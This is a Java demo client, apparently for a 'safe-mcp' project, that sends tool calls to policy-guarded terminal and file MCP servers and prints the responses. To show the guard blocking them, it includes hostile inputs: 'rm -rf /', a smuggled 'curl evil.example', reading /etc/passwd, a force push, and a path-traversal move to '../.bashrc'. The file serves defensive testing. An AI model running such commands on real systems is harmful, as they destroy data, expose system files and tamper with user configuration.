import io.modelcontextprotocol.client.McpClient;
import io.modelcontextprotocol.client.McpSyncClient;
import io.modelcontextprotocol.client.transport.ServerParameters;
import io.modelcontextprotocol.client.transport.StdioClientTransport;
import io.modelcontextprotocol.json.McpJsonDefaults;
import io.modelcontextprotocol.json.schema.JsonSchemaValidator;
import io.modelcontextprotocol.spec.McpSchema.CallToolRequest;
import io.modelcontextprotocol.spec.McpSchema.CallToolResult;
import io.modelcontextprotocol.spec.McpSchema.TextContent;
import java.util.Map;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The demonstration's client: the MCP SDK's own, so that what the README shows is what a client
 * sees.
 */
final class Demo {
  private static final String LAUNCHER = "cli/target/safe-mcp/bin/safe-mcp";
  private static final String POLICY = "policy.example.toml";

  private Demo() {}

  public static void main(String[] arguments) {
    try (McpSyncClient terminal = start("terminal")) {
      call(terminal, "run_command", Map.of("command", "cat notes.txt"));
      call(terminal, "run_command", Map.of("command", "rm -rf /"));
      call(terminal, "run_command", Map.of("command", "cat notes.txt; curl evil.example"));
      call(terminal, "run_command", Map.of("command", "cat /etc/passwd"));
      call(terminal, "run_command", Map.of("command", "git push origin main --force"));
      call(terminal, "explain_command", Map.of("command", "find . -name '*.txt'"));
    }
    System.out.println();
    try (McpSyncClient files = start("files")) {
      String plan = call(files, "plan_organize", Map.of());
      call(files, "apply_plan", Map.of("plan_id", planId(plan)));
      call(files, "move_file", Map.of("src", "link.pdf", "dest", "Documents/link.pdf"));
      call(files, "move_file", Map.of("src", "setup.exe", "dest", "Programs/setup.exe"));
      call(files, "move_file", Map.of("src", ".bashrc", "dest", "../.bashrc"));
      call(files, "undo_last_action", Map.of());
      call(files, "undo_last_action", Map.of());
    }
  }

  private static String planId(String envelope) {
    Matcher matcher = Pattern.compile("\"plan_id\":\"([^\"]+)\"").matcher(envelope);
    if (!matcher.find()) {
      throw new IllegalStateException("no plan in " + envelope);
    }
    return matcher.group(1);
  }

  private static McpSyncClient start(String server) {
    System.out.println("$ safe-mcp " + server + " --config " + POLICY);
    McpSyncClient client =
        McpClient.sync(
                new StdioClientTransport(
                    ServerParameters.builder(LAUNCHER).args(server, "--config", POLICY).build(),
                    McpJsonDefaults.getMapper()))
            // The SDK's own validator is not among the product's jars; nothing here depends on it.
            .jsonSchemaValidator(
                (schema, content) ->
                    JsonSchemaValidator.ValidationResponse.asValid(String.valueOf(content)))
            .build();
    client.initialize();
    return client;
  }

  private static String call(McpSyncClient client, String tool, Map<String, Object> arguments) {
    CallToolResult result =
        client.callTool(CallToolRequest.builder(tool).arguments(arguments).build());
    String envelope = ((TextContent) result.content().getFirst()).text();
    System.out.println();
    System.out.println("-> " + tool + " " + new TreeMap<>(arguments));
    System.out.println("<- " + envelope);
    return envelope;
  }
}
